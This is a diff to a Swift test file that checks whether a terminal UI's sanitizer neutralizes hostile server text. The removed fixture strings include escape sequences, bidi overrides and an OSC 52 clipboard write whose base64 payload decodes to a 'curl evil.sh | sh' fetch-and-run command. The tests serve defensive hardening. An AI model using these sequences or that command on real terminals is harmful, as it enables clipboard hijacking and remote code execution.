@@ -1,6 +1,7 @@
 import XCTest
 import AtomsModels
 @testable import TUICore
+import TestSupport
 
 /// Server text built to attack a terminal — CSI and OSC sequences (OSC 52 clipboard writes, ESC[2J),
 /// C0/C1 controls, bidi overrides, zero-width characters, a 100,000-character line, the replacement
@@ -9,26 +10,15 @@ import AtomsModels
 /// character in any cell), aligned (every row exactly as wide as the screen), and match its golden
 /// file (`hostile-*.txt`; `UPDATE_GOLDENS=1` rewrites).
 final class HostileTextRenderTests: XCTestCase {
+    /// The attack strings shared with ReliabilityTests' CLI goldens.
+    typealias Hostile = HostileText
     typealias F = Fixtures
 
-    /// The hostile strings (shared in spirit with ReliabilityTests' CLI goldens).
-    enum Hostile {
-        static let clear = "Wipe\u{1B}[2J\u{1B}[H\u{1B}[31mRED\u{1B}[0m"
-        static let osc52 = "Clip\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}board"
-        static let title = "Title\u{1B}]0;pwned\u{1B}\\ bar"
-        static let c0 = "bell\u{07}bs\u{08}cr\rnl\nnul\u{00}del\u{7F}"
-        static let c1 = "c1\u{9B}31mcsi\u{9D}osc\u{85}nel"
-        static let bidi = "admin\u{202E}txt.exe\u{202C} \u{2066}iso\u{2069}"
-        static let zeroWidth = "zero\u{200B}wid\u{200C}th\u{2060}jo\u{FEFF}in"
-        static let long = "L" + String(repeating: "o", count: 99_998) + "ng"
-        static let badUTF8 = String(decoding: [0x62, 0x61, 0x64, 0xFF, 0xFE, 0xC0, 0x80, 0xED, 0xA0, 0x80, 0x21], as: UTF8.self)
-        static let all = [clear, osc52, title, c0, c1, bidi, zeroWidth, long, badUTF8]
-    }
 
     static let sizes = [Size(width: 120, height: 32), Size(width: 80, height: 24), Size(width: 40, height: 12)]
 
     static func hostileAgents() -> [Agent] {
-        Hostile.all.enumerated().map { i, name in
+        Hostile.attacks.enumerated().map { i, name in
             var a = Agent(id: F.agentId(i), name: name, activeVersionId: F.versionId(i, 4))
             a.updatedAt = F.iso(minutesAgo: 60 * (i + 1))
             return a
@@ -38,9 +28,9 @@ final class HostileTextRenderTests: XCTestCase {
     static func hostileVersions() -> [AgentVersion] {
         F.versions().enumerated().map { i, v in
             var v = v
-            v.label = Hostile.all[i % Hostile.all.count]
-            v.description = Hostile.all[(i + 3) % Hostile.all.count]
-            v.publishedByName = Hostile.all[(i + 5) % Hostile.all.count]
+            v.label = Hostile.attacks[i % Hostile.attacks.count]
+            v.description = Hostile.attacks[(i + 3) % Hostile.attacks.count]
+            v.publishedByName = Hostile.attacks[(i + 5) % Hostile.attacks.count]
             if v.securityCheck?.status == .failed { v.securityCheck?.reason = Hostile.osc52 }
             return v
         }
@@ -56,7 +46,7 @@ final class HostileTextRenderTests: XCTestCase {
     }
 
     static let hostileConfig: ConfigDocument = [
-        "singlePromptConfig": ["prompt": .string(Hostile.all.joined(separator: "\n")), "tools": []],
+        "singlePromptConfig": ["prompt": .string(Hostile.attacks.joined(separator: "\n")), "tools": []],
         "firstMessage": .string(Hostile.osc52),
         "globalPrompt": .string(Hostile.long),
         "slmModel": "electron",
@@ -91,7 +81,7 @@ final class HostileTextRenderTests: XCTestCase {
         }),
         ("error", { size in
             var s = loaded(size)
-            _ = update(&s, .loadFailed(key: "versions", message: "GET /agent/x → 400 " + Hostile.all.joined(separator: " ")))
+            _ = update(&s, .loadFailed(key: "versions", message: "GET /agent/x → 400 " + Hostile.attacks.joined(separator: " ")))
             return s
         }),
         ("diff", { size in
@@ -160,7 +150,7 @@ final class HostileTextRenderTests: XCTestCase {
 
     /// The sanitizer on its own: each hostile string comes out inert, one line, and visibly marked.
     func testSanitizerMakesEveryHostileStringInert() {
-        for text in Hostile.all {
+        for text in Hostile.attacks {
             let out = Sanitizer.sanitize(text, maxCharacters: 300)
             XCTAssertTrue(Sanitizer.isInert(out), out)
             XCTAssertFalse(out.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, out)
